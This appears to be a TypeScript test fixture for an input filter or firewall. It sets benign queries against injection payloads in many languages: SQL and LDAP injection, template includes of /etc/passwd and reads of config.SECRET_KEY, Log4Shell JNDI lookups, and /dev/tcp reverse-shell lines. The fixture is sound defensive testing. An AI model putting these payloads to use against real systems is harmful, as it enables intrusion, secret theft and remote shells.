import { asked, filled, type HonestKinds, sent, testKinds } from './honest-kinds.ts'

/** Languages of queries, templates and programs in fields, and what stays an attack beside them. */
const KINDS: HonestKinds = {
  'a word of SQL alone between quotes': {
    honest: [
      asked('/api/orders', { $filter: "state eq 'OR'" }),
      asked('/api/orders', { filter: "direction eq 'in' or price eq 'and'" }),
      asked('/search', { q: 'direction:"in" NOT name:/jo[hn]+/' }),
      asked('/search', { q: '«или» = "or"' }),
    ],
    attacks: [
      asked('/s', { q: "x' or 'a" }),
      asked('/s', { q: "' AND '" }),
      asked('/s', { q: "' or 1 in (1)--" }),
      asked('/s', { q: "x' in (select 1) or '" }),
      asked('/s', { q: "1' or 'a'='a" }),
    ],
  },
  'comparisons of programs': {
    honest: [
      asked('/search', { q: "if (a === ' ' || type === '{')" }),
      asked('/search', { q: "':' in name or (os.sep != '/' and os.sep in name)" }),
      filled({ zeta: 'if [ "$a" = "" ] && [ "$ROOT" != "/" ]; then' }),
    ],
    attacks: [
      asked('/s', { q: "' || 1===1 || '" }),
      asked('/s', { q: "' || true===true || 'a" }),
      asked('/s', { q: "50'||this||'" }),
      asked('/s', { q: 'x" ] && "a"="a' }),
      asked('/s', { q: "x'] or 1=1 or ['" }),
    ],
  },
  'filters of directories in a document, whole and with what stands in their brackets': {
    honest: [
      sent({ filter: '(objectClass=*)' }),
      sent({ filter: '(memberOf=CN=staff,OU=Groups,DC=corp,DC=example)' }),
    ],
    attacks: [
      sent({ filter: '*)(objectClass=*' }),
      asked('/s', { filter: '(objectClass=*)' }),
      sent({ user: 'x)(objectClass=*)' }),
    ],
  },
  'templates that include others of their own folder, and name what a page is called': {
    honest: [
      sent({ body: '{% include "header.html" %}' }),
      filled({ template: "{% include 'partials/nav.liquid' %}<h1>{{ config.title }}</h1>" }),
    ],
    attacks: [
      sent({ body: "{% include '/etc/passwd' %}" }),
      sent({ body: "{% include '../../x.html' %}" }),
      sent({ body: '{{config.items()}}' }),
      sent({ body: '{{ config.SECRET_KEY }}' }),
      sent({ body: '{{ config.title.__class__ }}' }),
    ],
  },
  'loops where people write': {
    honest: [sent({ message: 'replace it with for(;;)' }), filled({ comment: 'while(true); never ends' })],
    attacks: [
      asked('/s', { q: "';while(true);" }),
      sent({ id: 'while(true);' }),
      filled({ user: 'a;for(;;){}' }),
    ],
  },
  'selectors with axes': {
    honest: [
      sent({ selector: "//input[@name='q']/following-sibling::button" }),
      sent({ locator: "count(//li[@class='a'])" }),
    ],
    attacks: [asked('/s', { name: "' or count(parent::*)=0 or 'a'='b" })],
  },
  'expressions that end at a slash, addresses of data, and the name of a lookup': {
    honest: [
      asked('/search', { pattern: '\\/[^\\/]*$' }),
      asked('/search', { q: 'data:image/png;base64' }),
      asked('/search', { q: '${jndi} in logs' }),
      filled({ avatar: 'data:text/plain;charset=utf-8,Hello%2C%20World!' }),
    ],
    attacks: [
      asked('/s', { q: '/b[i]n/cat' }),
      asked('/s', { q: 'x;base64 /etc/passwd' }),
      asked('/s', { q: '${${a:-jndi}:ldap://x}' }),
      asked('/s', { q: '${${lower:jndi}:ldap://x}' }),
      filled({ file: 'data:text/plain;charset=utf-8,<?php x' }),
    ],
  },
  'text in an encoding that was lost, up to a quote': {
    honest: [
      sent({ content: `"${'\ufffd'.repeat(128)}"` }),
      sent({ content: `"\\xFF\\xA7${'\\xBF'.repeat(12)}"` }),
    ],
    attacks: [asked('/s', { q: "x\ufffd' or 1=1--" }), asked('/s', { q: "\ufffd\ufffd\ufffd' or 1=1--" })],
  },
  'a module that gives and takes much': {
    honest: [
      sent({
        content: Array.from(
          { length: 400 },
          (_, i) => `export * from "./a${i}";\nimport { B${i} } from "./b";`,
        ).join('\n'),
      }),
      sent({ content: `healthcheck:\n  - exec 3<>/dev/tcp/localhost/9000\n${'a: b\n'.repeat(100)}` }),
    ],
    attacks: [
      asked('/s', { q: 'x;export A=`id`' }),
      asked('/s', { q: 'exec 5<>/dev/tcp/198.51.100.7/80' }),
      asked('/s', { q: 'bash -i >& /dev/tcp/127.0.0.1/44' }),
    ],
  },
}

testKinds(KINDS)
